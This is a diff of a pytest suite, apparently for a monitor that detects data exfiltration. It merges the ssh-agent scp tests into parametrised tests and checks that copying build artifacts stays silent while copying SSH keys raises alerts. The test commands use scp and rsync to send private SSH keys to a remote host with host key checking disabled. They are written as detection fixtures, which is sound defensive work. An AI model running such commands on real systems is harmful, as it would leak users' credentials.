@@ -460,29 +460,37 @@ def test_restic_backup_of_ssh_keys_to_another_repository_alerts(monitor, home, s
     assert_alert_here(monitor, home, "T1567.002")
 
 
-# --- scp -i KEY ---------------------------------------------------------------------------------
+# --- scp -i KEY, and scp through ssh-agent ------------------------------------------------------
+# With the agent, ssh-add reads the key and hands it to the agent over its UNIX socket; ssh then
+# signs through the agent, never reading the key: the agent's socket carries signatures, not the
+# key, to whoever asks.
 
-SCP = ("scp -q -i $HOME/.ssh/id_deploy -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
-       "-o BatchMode=yes ")
+SSH_OPTIONS = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes"
+AGENT = ("eval $(ssh-agent -s) > /dev/null && trap 'ssh-agent -k > /dev/null' EXIT && "
+         "ssh-add -q $HOME/.ssh/id_deploy && ")
+SCP = {"identity": f"scp -q -i $HOME/.ssh/id_deploy {SSH_OPTIONS} ",
+       "agent": AGENT + f"scp -q {SSH_OPTIONS} "}
 
 
 def authorize(home, sshd):
     sshd.authorized.write_text((home.path / ".ssh" / "id_deploy.pub").read_text())
 
 
-def test_scp_with_a_deploy_key_is_silent(monitor, home, storage, sshd, tmp_path):
+@pytest.mark.parametrize("via", SCP)
+def test_scp_with_a_deploy_key_is_silent(monitor, home, storage, sshd, tmp_path, via):
     authorize(home, sshd)
     target = tmp_path / "scp-artifact.tar"
-    run(SCP + f"$HOME/build/artifact.tar root@github.com:{target}", home, storage, tmp_path)
+    run(SCP[via] + f"$HOME/build/artifact.tar root@github.com:{target}", home, storage, tmp_path)
     assert target.stat().st_size == 200_000
     wait_for_flow(monitor, storage, "github.com")
     assert_silent_here(monitor, home)
 
 
-def test_scp_of_the_key_itself_alerts(monitor, home, storage, sshd, tmp_path):
+@pytest.mark.parametrize("via", SCP)
+def test_scp_of_the_key_itself_alerts(monitor, home, storage, sshd, tmp_path, via):
     authorize(home, sshd)
     target = tmp_path / "scp-key"
-    run(SCP + f"$HOME/.ssh/id_ed25519 root@github.com:{target}", home, storage, tmp_path)
+    run(SCP[via] + f"$HOME/.ssh/id_ed25519 root@github.com:{target}", home, storage, tmp_path)
     assert target.exists()
     assert_alert_here(monitor, home, "T1567.001")
 
@@ -491,8 +499,7 @@ def test_scp_of_the_key_itself_alerts(monitor, home, storage, sshd, tmp_path):
 # Documents are sensitive: to a host nobody declared, rsync's ssh uploading them alerts (as any
 # undeclared destination does); to the declared backup host it is the job it looks like.
 
-RSYNC = ('rsync -a -e "ssh -i $HOME/.ssh/id_deploy -o StrictHostKeyChecking=no '
-         '-o UserKnownHostsFile=/dev/null -o BatchMode=yes" ')
+RSYNC = f'rsync -a -e "ssh -i $HOME/.ssh/id_deploy {SSH_OPTIONS}" '
 
 
 def test_rsync_backup_of_documents_to_the_declared_host_is_silent(monitor, home, storage, sshd, tmp_path):
@@ -509,33 +516,6 @@ def test_rsync_of_ssh_keys_to_a_code_host_alerts(monitor, home, storage, sshd, t
     target = tmp_path / "rsync-keys"
     run(RSYNC + f"$HOME/.ssh/ root@github.com:{target}/", home, storage, tmp_path)
     assert (target / "id_ed25519").exists()
-    assert_alert_here(monitor, home, "T1567.001")
-
-
-# --- the key held by ssh-agent -----------------------------------------------------------------
-# ssh-add reads the key and hands it to the agent over its UNIX socket; ssh then signs through the
-# agent, never reading the key: the agent's socket carries signatures, not the key, to whoever
-# asks.
-
-AGENT = ("eval $(ssh-agent -s) > /dev/null && trap 'ssh-agent -k > /dev/null' EXIT && "
-         "ssh-add -q $HOME/.ssh/id_deploy && ")
-SCP_AGENT = "scp -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes "
-
-
-def test_scp_through_ssh_agent_is_silent(monitor, home, storage, sshd, tmp_path):
-    authorize(home, sshd)
-    target = tmp_path / "scp-agent-artifact.tar"
-    run(AGENT + SCP_AGENT + f"$HOME/build/artifact.tar root@github.com:{target}", home, storage, tmp_path)
-    assert target.stat().st_size == 200_000
-    wait_for_flow(monitor, storage, "github.com")
-    assert_silent_here(monitor, home)
-
-
-def test_scp_of_a_key_through_ssh_agent_alerts(monitor, home, storage, sshd, tmp_path):
-    authorize(home, sshd)
-    target = tmp_path / "scp-agent-key"
-    run(AGENT + SCP_AGENT + f"$HOME/.ssh/id_ed25519 root@github.com:{target}", home, storage, tmp_path)
-    assert target.exists()
     assert_alert_here(monitor, home, "T1567.001")
 
 
